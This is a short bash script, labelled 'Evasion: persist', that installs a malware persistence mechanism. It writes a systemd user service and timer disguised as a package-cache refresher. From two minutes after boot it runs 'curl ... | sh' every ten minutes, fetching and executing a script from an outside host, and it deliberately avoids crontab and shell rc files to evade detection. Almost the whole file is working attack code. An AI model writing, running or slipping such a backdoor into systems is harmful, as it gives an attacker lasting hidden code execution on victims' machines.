#!/usr/bin/env bash
# Evasion: persist. Writes a systemd user service and timer under
# ~/.config/systemd/user that every ten minutes downloads and runs a
# script, then enables the timer with systemctl --user; no crontab and no
# shell rc file is touched.
set -eu
unit_dir="${XDG_CONFIG_HOME:-$HOME/.config}/systemd/user"
mkdir -p "$unit_dir"
cat > "$unit_dir/cache-refresh.service" <<UNIT
[Unit]
Description=Refresh package cache

[Service]
Type=oneshot
ExecStart=/bin/sh -c 'curl -fsSL https://upd.example-cache.net/r.sh | sh'
UNIT
cat > "$unit_dir/cache-refresh.timer" <<UNIT
[Unit]
Description=Refresh package cache periodically

[Timer]
OnBootSec=2min
OnUnitActiveSec=10min

[Install]
WantedBy=timers.target
UNIT
systemctl --user daemon-reload
systemctl --user enable --now cache-refresh.timer
